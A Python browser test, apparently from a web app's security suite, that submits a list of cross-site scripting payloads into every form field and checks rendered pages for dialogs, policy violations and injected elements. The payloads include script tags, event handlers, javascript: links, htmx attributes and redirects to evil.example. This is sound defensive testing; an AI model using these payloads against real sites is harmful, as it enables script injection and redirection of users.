"""H1: what is typed anywhere never runs anywhere: no dialog, no violation of the policy, no foreign element."""

from collections.abc import Iterator

from playwright.sync_api import Browser, Dialog, Page, sync_playwright
from playwright.sync_api import Error as PlaywrightError

from tests.browser import launch_options
from tests.verify.forms import Form
from tests.verify.place import Place
from tests.verify.probing import Found, Probe
from tests.verify.visitor import Answer, Visitor, kind, players, walk

MARK = "xss7f3a"
PAYLOADS = (
    f"<script>alert('{MARK}')</script>",
    f"\"><img src=x onerror=alert('{MARK}')>",
    f"'><svg onload=alert('{MARK}')>",
    f"</textarea><script>alert('{MARK}')</script>",
    f"</title><style>@import'//evil.example/{MARK}'</style>",
    f"javascript:alert('{MARK}')",
    f"<a href=\"javascript:alert('{MARK}')\" hx-on:click=\"alert('{MARK}')\">{MARK}</a>",
    f"<div hx-get=\"//evil.example\" hx-trigger=load hx-vals='js:{{a:alert(1)}}'>{MARK}</div>",
    f"{{{{ constructor.constructor('alert(1)')() }}}}{MARK}",
    f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\"></iframe>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"\u2028<base href=//evil.example/>{MARK}",
)
# Violations are counted before the first script of a page can hide one.
LISTEN = """window.violations = [];
document.addEventListener('securitypolicyviolation', (event) => {
  if (event.disposition === 'enforce') window.violations.push(event.violatedDirective + ' ' + event.blockedURI);
});"""
FOREIGN = """() => [...document.querySelectorAll(
  "script:not([src^='/static/'], [type='application/json']), iframe, base, [onerror], [onload], [onclick]," +
  "[hx-get^='//'], [href^='javascript:']"
)].map((element) => element.outerHTML.slice(0, 120))"""
PAGES_EACH = 70
SAVED = "Download is starting"  # a file to save is no page and runs nothing


def run(place: Place) -> Found:
    everybody = players(place.site)
    accepted, tried = 0, set[str]()
    for player in everybody:
        for status in _typed(Visitor(place.site).enter(player), tried):
            accepted += status in {200, 302, 303}
    faults, pages, held = _looked_at(place, everybody)
    if not held:
        faults.append("no page shows what was typed: the probe saw nothing")
    typed = f"{len(PAYLOADS)} payloads into {len(tried)} forms ({accepted} answers taken)"
    figures = f"{typed}, {pages} pages in the browser, {held} of them show one"
    return Found(figures, faults)


def _typed(visitor: Visitor, tried: set[str]) -> Iterator[int]:
    """Alone in each text field, so that the rest of the form stays acceptable; and in all at once."""
    for answer in list(walk(visitor, at_most=120)):
        for number, form in enumerate(answer.forms):
            name = f"{form.method} {kind(form.action or answer.address)} {form.typed}"
            if form.typed and name not in tried and "/accedi" not in form.action:
                tried.add(name)
                yield from (_sent(visitor, answer, number, filled) for filled in _fillings(form))


def _fillings(form: Form) -> Iterator[dict[str, str]]:
    for which, name in enumerate(form.typed):
        yield {name: PAYLOADS[which % len(PAYLOADS)]}
    for payload in PAYLOADS:
        yield dict.fromkeys(form.typed, payload)


def _sent(visitor: Visitor, answer: Answer, number: int, values: dict[str, str]) -> int:
    """The form is fetched anew each time: its version and its token have moved on."""
    forms = visitor.get(answer.address).forms
    if number >= len(forms):
        return 0
    return visitor.send(forms[number].filled(**values), answer.address).status


def _looked_at(place: Place, everybody: list[str]) -> tuple[list[str], int, int]:
    faults, pages, held = list[str](), 0, 0
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(**launch_options())
        for player in everybody:
            addresses = [
                answer.address for answer in walk(Visitor(place.site).enter(player), at_most=PAGES_EACH, each=2)
            ]
            page = _page(browser, place, player, faults)
            for address in addresses:
                if (why_not := _opens(page, f"{place.site}{address}")) is not None:
                    if SAVED not in why_not:
                        faults.append(f"{player} {kind(address)} does not open in the browser")
                    continue
                pages += 1
                held += MARK in page.content()
                seen = [*page.evaluate("() => window.violations"), *page.evaluate(FOREIGN)]
                faults += [f"{player} {kind(address)}: {one}" for one in seen]
            page.context.close()
        browser.close()
    return faults, pages, held


def _answered(dialog: Dialog, faults: list[str], said: str) -> None:
    """Leaving a form that holds a draft asks our own question; any other dialog is somebody's script."""
    if dialog.type == "beforeunload":
        dialog.accept()
    else:
        faults.append(said)
        dialog.dismiss()


def _opens(page: Page, address: str) -> str | None:
    """What the browser says against it. A page just left may interrupt the next one; not twice."""
    said = ""
    for _attempt in range(2):
        try:
            page.goto(address)
        except PlaywrightError as error:
            said = error.message
        else:
            return None
    return said


def _page(browser: Browser, place: Place, player: str, faults: list[str]) -> Page:
    context = browser.new_context(locale="it-IT")
    visitor = Visitor(place.site).enter(player)
    context.add_cookies([{"name": name, "value": value, "url": place.site} for name, value in visitor.cookies.items()])
    context.add_init_script(LISTEN)
    context.route(
        "**/*", lambda route: route.continue_() if route.request.url.startswith(place.site) else route.abort()
    )
    page = context.new_page()
    page.on("dialog", lambda dialog: _answered(dialog, faults, f"{player}: dialog on {page.url}"))
    page.on("request", lambda asked: faults.append(f"asked {asked.url}") if "evil.example" in asked.url else None)
    return page


PROBE = Probe("scripts", "H1", "scripts typed into every text field, looked for on every page in the browser", run)
